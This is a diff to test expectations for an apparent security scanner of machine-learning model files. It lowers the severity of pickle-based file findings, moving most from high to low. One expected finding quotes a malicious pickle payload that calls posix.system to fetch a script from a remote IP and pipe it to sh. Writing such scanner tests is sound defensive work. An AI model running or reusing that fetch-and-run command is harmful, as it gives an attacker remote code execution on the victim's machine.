@@ -125,7 +125,7 @@ def test_scan_findings_by_category(hostile_dir):
     scan = scan_model(hostile_dir)
     counts = Counter((f.category, f.severity.value) for f in scan.findings)
     assert counts == Counter({
-        ("dangerous_file_type", "high"): 23, ("dangerous_file_type", "critical"): 3,
+        ("dangerous_file_type", "high"): 3, ("dangerous_file_type", "low"): 20, ("dangerous_file_type", "critical"): 3,
         ("pickle_dangerous_import", "critical"): 15, ("pickle_suspicious_import", "high"): 2,
         ("archive_anomaly", "high"): 4, ("archive_anomaly", "medium"): 4, ("custom_code_reference", "high"): 3,
         ("file_type_mismatch", "medium"): 2, ("scanner_disagreement", "low"): 4,
@@ -324,7 +324,7 @@ def test_real_minilm_model_is_clean(minilm_dir):
 def test_sample_cases():
     tampered = scan_model(SAMPLES / "tampered-weights/models/suspect/sentiment-model-v2.1", display_prefix="suspect")
     assert [(f.severity.value, f.category, f.title) for f in tampered.findings] == [
-        ("high", "dangerous_file_type", "suspect/optimizer.pkl: pickle-based: loading it runs the pickle"),
+        ("low", "dangerous_file_type", "suspect/optimizer.pkl: pickle-based: loading it runs the pickle"),
         ("critical", "pickle_dangerous_import",
          "suspect/optimizer.pkl: pickle imports posix.system: posix.system('curl -s http://203.0.113.7/p.sh | sh')"),
     ]  # fmt: skip
